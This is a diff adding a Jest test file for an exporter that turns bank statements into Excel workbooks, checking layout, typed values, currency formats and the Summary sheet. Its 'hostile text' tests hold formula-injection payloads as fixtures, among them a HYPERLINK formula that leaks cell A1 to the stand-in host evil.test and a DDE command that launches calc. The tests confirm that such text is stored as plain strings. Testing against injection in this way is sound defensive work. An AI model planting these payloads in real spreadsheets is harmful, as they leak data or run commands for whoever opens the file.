@@ -1,0 +1,258 @@
+// The workbook read back the way a user's Excel would read it: values, types, formats and layout.
+import { describe, expect, test } from '@jest/globals';
+import ExcelJS from 'exceljs';
+import JSZip from 'jszip';
+import { currencyNumFmt, toXlsx, transactionSheetNames } from '@bankxl/export';
+import { aStatement, aTransaction, anAccount } from './statements.js';
+
+const load = async (buffer: Buffer) => {
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
+  return workbook;
+};
+
+// The Summary sheet as label -> cell, for the rows that have a label.
+const summaryOf = (workbook: ExcelJS.Workbook) => {
+  const cells = new Map<string, ExcelJS.Cell>();
+  workbook.getWorksheet('Summary')!.eachRow((row) => {
+    const label = row.getCell(1).value;
+    if (typeof label === 'string' && label && !cells.has(label)) cells.set(label, row.getCell(2));
+  });
+  return cells;
+};
+
+const xmlFiles = async (buffer: Buffer) => {
+  const zip = await JSZip.loadAsync(buffer);
+  const files: Record<string, string> = {};
+  for (const name of Object.keys(zip.files).filter((n) => n.endsWith('.xml'))) files[name] = await zip.file(name)!.async('string');
+  return files;
+};
+
+describe('toXlsx: the Transactions sheet', () => {
+  test('when a statement has one account, then the sheets are Transactions and Summary', async () => {
+    const workbook = await load(await toXlsx(aStatement()));
+    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions', 'Summary']);
+  });
+
+  test('when written, then the header is bold, frozen and filtered, and rows hold typed values', async () => {
+    const sheet = (await load(await toXlsx(aStatement()))).getWorksheet('Transactions')!;
+    expect(sheet.getRow(1).values).toEqual([undefined, 'Date', 'Description', 'Debit', 'Credit', 'Amount', 'Balance', 'Page']);
+    for (let c = 1; c <= 7; c++) expect(sheet.getRow(1).getCell(c).font?.bold).toBe(true);
+    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
+    expect(sheet.autoFilter).toBe('A1:G3');
+
+    const debit = sheet.getRow(2);
+    expect(debit.getCell(1).value).toEqual(new Date(Date.UTC(2024, 0, 2)));
+    expect(debit.getCell(1).numFmt).toBe('yyyy-mm-dd');
+    expect(debit.getCell(2).value).toBe('TESCO STORES 3217 LONDON');
+    expect([3, 4, 5, 6, 7].map((c) => debit.getCell(c).value)).toEqual([12.34, null, -12.34, 1222.22, 1]);
+    const credit = sheet.getRow(3);
+    expect([3, 4, 5, 6, 7].map((c) => credit.getCell(c).value)).toEqual([null, 100, 100, 1322.22, 2]);
+    for (const c of [3, 4, 5, 6]) expect(credit.getCell(c).numFmt).toBe('"£"#,##0.00');
+  });
+
+  test('when a date is written, then the XML holds an Excel serial number, not text', async () => {
+    const statement = aStatement({ accounts: [anAccount({ transactions: [aTransaction({ date: '2024-01-01' })] })] });
+    const xml = await xmlFiles(await toXlsx(statement));
+    expect(xml['xl/worksheets/sheet1.xml']).toMatch(/<c r="A2"[^>]*><v>45292<\/v><\/c>/);
+  });
+
+  test('when a balance is not printed, then its cell is empty', async () => {
+    const statement = aStatement({ accounts: [anAccount({ transactions: [aTransaction({ balance: null })] })] });
+    const sheet = (await load(await toXlsx(statement))).getWorksheet('Transactions')!;
+    expect(sheet.getRow(2).getCell(6).value).toBeNull();
+  });
+
+  test('when descriptions are long, then the column is widened to fit, up to a limit', async () => {
+    const long = 'CARD PAYMENT TO A MERCHANT WITH A RATHER LONG NAME'; // 50 characters
+    const statement = aStatement({
+      accounts: [anAccount({ transactions: [aTransaction({ description: long }), aTransaction({ description: 'x'.repeat(500) })] })],
+    });
+    const sheet = (await load(await toXlsx(statement))).getWorksheet('Transactions')!;
+    expect(sheet.getColumn(2).width).toBe(60);
+    const short = (await load(await toXlsx(aStatement({ accounts: [anAccount({ transactions: [aTransaction({ description: long })] })] }))))
+      .getWorksheet('Transactions')!;
+    expect(short.getColumn(2).width).toBe(52);
+    expect(short.getColumn(1).width).toBe(12);
+    expect(short.getColumn(6).width).toBeGreaterThanOrEqual('£1,222.22'.length);
+  });
+
+  test.each([
+    ['GBP', '"£"#,##0.00'],
+    ['USD', '"$"#,##0.00'],
+    ['EUR', '[$EUR] #,##0.00'],
+    ['eur', '[$EUR] #,##0.00'],
+    ['CHF', '[$CHF] #,##0.00'],
+    ['JPY', '"¥"#,##0'],
+    ['KWD', '[$KWD] #,##0.000'],
+    ['ZZZ', '#,##0.00'],
+    [null, '#,##0.00'],
+  ])('currency %s is formatted as %s', (currency, numFmt) => {
+    expect(currencyNumFmt(currency)).toBe(numFmt);
+  });
+
+  test('when the account is in JPY, then money cells have no decimals', async () => {
+    const statement = aStatement({
+      accounts: [anAccount({ currency: 'JPY', transactions: [aTransaction({ amount: -1200, balance: 98800 })] })],
+    });
+    const sheet = (await load(await toXlsx(statement))).getWorksheet('Transactions')!;
+    expect(sheet.getRow(2).getCell(5).numFmt).toBe('"¥"#,##0');
+  });
+
+  test('when a zero-decimal currency has fractional amounts, then the decimals are kept', async () => {
+    const statement = aStatement({ accounts: [anAccount({ currency: 'HUF', transactions: [aTransaction({ amount: -1200.5 })] })] });
+    const sheet = (await load(await toXlsx(statement))).getWorksheet('Transactions')!;
+    expect(sheet.getRow(2).getCell(5).numFmt).toBe('[$HUF] #,##0.00');
+  });
+});
+
+describe('toXlsx: several accounts', () => {
+  test('when accounts have distinct numbers, then each gets "Transactions <number>"', async () => {
+    const statement = aStatement({
+      accounts: [anAccount(), anAccount({ accountNumber: '87654321', currency: 'EUR', transactions: [aTransaction({ amount: -5 })] })],
+    });
+    const workbook = await load(await toXlsx(statement));
+    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions 12345678', 'Transactions 87654321', 'Summary']);
+    expect(workbook.getWorksheet('Transactions 87654321')!.getRow(2).getCell(5).numFmt).toBe('[$EUR] #,##0.00');
+    expect(workbook.getWorksheet('Transactions 87654321')!.autoFilter).toBe('A1:G2');
+  });
+
+  test('when numbers are missing or repeated, then sheets are numbered', () => {
+    expect(transactionSheetNames([anAccount(), anAccount()])).toEqual(['Transactions 1', 'Transactions 2']);
+    expect(transactionSheetNames([anAccount(), anAccount({ accountNumber: null })])).toEqual(['Transactions 1', 'Transactions 2']);
+  });
+
+  test('when numbers hold forbidden characters or are long, then names are still valid Excel names', () => {
+    const names = transactionSheetNames([
+      anAccount({ accountNumber: '****1234' }),
+      anAccount({ accountNumber: 'GB33 BUKB 2020 1555 5555 55' }),
+      anAccount({ accountNumber: "12/34:56 [x]'" }),
+    ]);
+    expect(names).toEqual(['Transactions 1234', 'Transactions 2020 1555 5555 55', 'Transactions 123456 x']);
+    for (const name of names) {
+      expect(name.length).toBeLessThanOrEqual(31);
+      expect(name).not.toMatch(/[[\]:*?/\\]|^'|'$/);
+    }
+  });
+
+  test('when there is no account, then the workbook still has an empty Transactions sheet', async () => {
+    const workbook = await load(await toXlsx(aStatement({ accounts: [] })));
+    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions', 'Summary']);
+    expect(workbook.getWorksheet('Transactions')!.rowCount).toBe(1);
+  });
+});
+
+describe('toXlsx: the Summary sheet', () => {
+  test('when written, then it shows the statement facts, totals and check verdict', async () => {
+    const statement = aStatement({
+      accounts: [
+        anAccount({
+          transactions: [
+            aTransaction({ amount: 0.1 }),
+            aTransaction({ amount: 0.2 }),
+            aTransaction({ amount: -1000.05 }),
+            aTransaction({ amount: -0.01 }),
+          ],
+          checks: { verdict: 'not_verified', firstBreak: 'row 3 (2024-01-02, page 1)', firstBreakIndex: 2, totalsMatch: false, datesInPeriod: false },
+        }),
+      ],
+      warnings: ['Page 2 has a table we could not read.', 'Second warning'],
+    });
+    const summary = summaryOf(await load(await toXlsx(statement, { fileName: 'january.pdf', note: 'This workbook holds page 1 of 3 of the statement.' })));
+    const value = (label: string) => summary.get(label)?.value;
+    expect(value('Bank')).toBe('Example Bank plc');
+    expect(value('File')).toBe('january.pdf');
+    expect(value('Pages read')).toBe('2 of 2');
+    expect(value('Account number')).toBe('12345678');
+    expect(value('Account name')).toBe('Current Account');
+    expect(value('Account type')).toBe('Bank account');
+    expect(value('Currency')).toBe('GBP');
+    expect(value('Period')).toBe('2024-01-01 to 2024-01-31');
+    expect(value('Opening balance')).toBe(1234.56);
+    expect(summary.get('Opening balance')!.numFmt).toBe('"£"#,##0.00');
+    expect(value('Closing balance')).toBe(1322.22);
+    expect(value('Money in')).toBe(0.3);
+    expect(value('Money out')).toBe(1000.06);
+    expect(value('Transactions')).toBe(4);
+    expect(value('Check')).toBe('Not verified: the balances do not add up');
+    expect(value('First failing row')).toBe('row 3 (2024-01-02, page 1)');
+    expect(value('Dates in period')).toMatch(/^No/);
+    expect(value('Note')).toBe('This workbook holds page 1 of 3 of the statement.');
+    expect(value('Warnings')).toBe('Page 2 has a table we could not read.');
+    const column2: unknown[] = [];
+    (await load(await toXlsx(statement))).getWorksheet('Summary')!.eachRow((row) => column2.push(row.getCell(2).value));
+    expect(column2).toContain('Second warning');
+  });
+
+  test('when values are unknown and checks pass, then it says so in words', async () => {
+    const statement = aStatement({
+      bank: null,
+      accounts: [
+        anAccount({
+          accountNumber: null, name: null, currency: null, openingBalance: null, closingBalance: null, periodStart: null, periodEnd: null,
+          checks: { verdict: 'cannot_verify', firstBreak: null, firstBreakIndex: null, totalsMatch: null, datesInPeriod: true },
+        }),
+      ],
+    });
+    const summary = summaryOf(await load(await toXlsx(statement)));
+    expect(summary.get('Bank')!.value).toBe('Unknown');
+    expect(summary.get('Account number')!.value).toBe('Unknown');
+    expect(summary.get('Period')!.value).toBe('Unknown');
+    expect(summary.get('Opening balance')!.value).toBe('Not printed');
+    expect(summary.get('Check')!.value).toBe('Cannot verify: the statement prints no balances to check against');
+    expect(summary.get('First failing row')!.value).toBe('None');
+    expect(summary.get('Warnings')!.value).toBe('None');
+    expect(summary.has('Note')).toBe(false);
+    expect(summary.get('Money in')!.numFmt).toBe('#,##0.00');
+  });
+
+  test('when there are several accounts, then each has its own block naming its sheet', async () => {
+    const statement = aStatement({ accounts: [anAccount(), anAccount({ accountNumber: '87654321' })] });
+    const labels: unknown[] = [];
+    (await load(await toXlsx(statement))).getWorksheet('Summary')!.eachRow((row) => labels.push([row.getCell(1).value, row.getCell(2).value]));
+    expect(labels).toContainEqual(['Account 1 of 2', null]);
+    expect(labels).toContainEqual(['Account 2 of 2', null]);
+    expect(labels).toContainEqual(['Sheet', 'Transactions 87654321']);
+  });
+});
+
+describe('toXlsx: hostile text', () => {
+  const hostile = [
+    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
+    '+SUM(1,2)',
+    '-2+3',
+    '@SUM(A1:A2)',
+    '\t=1+1',
+    '\r=1+1',
+    '=cmd|\' /C calc\'!A0',
+  ];
+
+  test('when text starts with = + - @ tab or CR, then it is stored as a string, never a formula', async () => {
+    const statement = aStatement({
+      bank: '=1+2',
+      accounts: [anAccount({ name: '@name', transactions: hostile.map((description) => aTransaction({ description })) })],
+      warnings: ['-warning'],
+    });
+    const buffer = await toXlsx(statement, { fileName: '=file.pdf', note: '+note' });
+
+    const xml = await xmlFiles(buffer);
+    const sheets = Object.entries(xml).filter(([name]) => name.startsWith('xl/worksheets/sheet'));
+    expect(sheets).toHaveLength(2);
+    for (const [, sheetXml] of sheets) expect(sheetXml).not.toMatch(/<f[\s>]/);
+    expect(xml['xl/sharedStrings.xml']).toContain('=HYPERLINK(&quot;http://evil.test/?leak=&quot;&amp;A1,&quot;Click&quot;)');
+    expect(xml['xl/sharedStrings.xml']).not.toContain(">'=");
+
+    const workbook = await load(buffer);
+    const descriptions = hostile.map((_, i) => workbook.getWorksheet('Transactions')!.getRow(i + 2).getCell(2));
+    for (const cell of descriptions) expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(descriptions.slice(0, 4).map((c) => c.value)).toEqual(hostile.slice(0, 4));
+    const summary = summaryOf(workbook);
+    for (const label of ['Bank', 'Account name', 'File', 'Note', 'Warnings']) expect(summary.get(label)!.type).toBe(ExcelJS.ValueType.String);
+  });
+
+  test('when text holds control characters XML forbids, then they are dropped and the workbook opens', async () => {
+    const statement = aStatement({ accounts: [anAccount({ transactions: [aTransaction({ description: 'A\u0000B\u0007C\uFFFF D\uD800' })] })] });
+    const workbook = await load(await toXlsx(statement));
+    expect(workbook.getWorksheet('Transactions')!.getRow(2).getCell(2).value).toBe('ABC D');
+  });
+});
